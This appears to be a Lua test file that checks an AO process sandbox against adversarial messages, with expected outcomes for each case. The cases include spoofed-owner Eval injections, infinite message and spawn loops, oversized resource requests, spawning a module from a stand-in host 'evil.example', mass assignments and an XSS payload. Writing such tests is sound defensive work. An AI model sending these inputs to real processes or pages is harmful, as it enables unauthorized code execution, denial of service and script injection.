--- a process without rights does not evaluate in another
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'" })
--- nor by claiming to be its owner
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Owner = "owner", From = "owner", ["From-Process"] = "{victim}" })
--- nor by tags twice
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Data = "Secret = 'owned'", Tags = { { name = "Action", value = "Eval" }, { name = "From-Process", value = "{victim}" }, { name = "From-Process", value = "owner" }, { name = "Owner", value = "owner" } } })
--- nor by what was forwarded
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", ["Forwarded-By"] = "{victim}", ["X-Origin"] = "owner", ["Pushed-For"] = "owner" })
--- an answer that nobody asked for wakes no waiting handler
-- expect message: X-Reference=1
ao.send({ Target = "{victim}", Action = "Answer", Data = "owned", ["X-Reference"] = "1" })
--- a message to itself, for ever
-- expect output: set
Handlers.add("Loop", "Loop", function(msg) ao.send({ Target = ao.id, Action = "Loop" }) end)
ao.send({ Target = ao.id, Action = "Loop" }) print("set")
--- two messages for one, for ever
-- expect output: set
Handlers.add("Double", "Double", function(msg) for _ = 1, 2 do ao.send({ Target = ao.id, Action = "Double" }) end end)
ao.send({ Target = ao.id, Action = "Double" }) print("set")
--- processes that spawn processes, for ever
-- expect output: set
Handlers.add("Spawned", "Spawned", function(msg) for _ = 1, 3 do Spawn({ Data = "x" }) end end)
for _ = 1, 3 do Spawn({ Data = "x" }) end print("set")
--- a thousand processes at once
-- expect anything
for _ = 1, 1000 do Spawn({ ["On-Boot"] = "Data", Data = "for _ = 1, 1000 do end" }) end
--- a process with more memory than there is
-- expect anything
Spawn({ ["Memory-Limit"] = "999999-gb", ["Compute-Limit"] = "999999999999999999" })
--- a process whose clock ticks a billion times a second
-- expect anything
Spawn({ ["Cron-Interval"] = "1-millisecond", ["Cron-Tag-Action"] = "Tick" })
--- a process of a module that is none
-- expect anything
Spawn("https://evil.example/module.wasm", { Data = "x" })
--- an assignment of messages that are not its own
-- expect anything
Assign({ Processes = { "{victim}", "{victim}", "nobody" }, Message = "{victim}" })
--- an assignment of nothing to everybody
-- expect anything
local all = {} for i = 1, 10000 do all[i] = "{victim}" end Assign({ Processes = all, Message = ("A"):rep(43) })
--- the same message assigned by its tag
-- expect anything
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Assignments = { "{victim}" } })
--- its own id and owner, rewritten, deceive nobody
-- after anything
-- expect message: Action=Eval
ao.id = "{victim}" Owner = "owner" ao.env.Process.Id = "{victim}" ao.env.Process.Owner = "owner"
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'" })
--- a text for whoever shows it as markup
-- expect output: <script>
print("<script>document.title = 'owned'</script><img src=x onerror=\"document.title='owned'\">")
